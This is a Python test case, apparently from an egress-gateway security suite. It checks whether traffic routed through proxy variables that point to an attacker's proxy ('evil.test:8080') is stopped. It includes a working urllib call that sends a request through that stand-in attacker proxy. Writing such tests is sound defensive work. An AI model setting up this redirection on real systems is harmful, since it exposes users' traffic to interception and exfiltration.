"""The proxy variables point to a proxy of the attacker's.

The client asks for a permitted name, and asks it of the wrong proxy, which could pass it on, read it,
or answer instead. What counts is whom the connection goes to.

Not covered: a permitted host that is a proxy itself and forwards what it is asked.
"""

import urllib.request

ATTACK = {
    "title": "Proxy variables that name another proxy",
    "group": "roads",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["ATT&CK T1090.002", "CWE-441"],
    "arrives": [{"what": "tcp", "address": "93.184.216.66"}],
    "stopped": [
        {
            "reason": ["name-mismatch"],
            "entry": ["transparent"],
            "where": {"name": "evil.test", "port": "8080"},
        }
    ],
}


def attempt(kit):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": "http://evil.test:8080"}))
    kit.do("through the other proxy", lambda: opener.open("http://allowed.test/other", timeout=4).status)
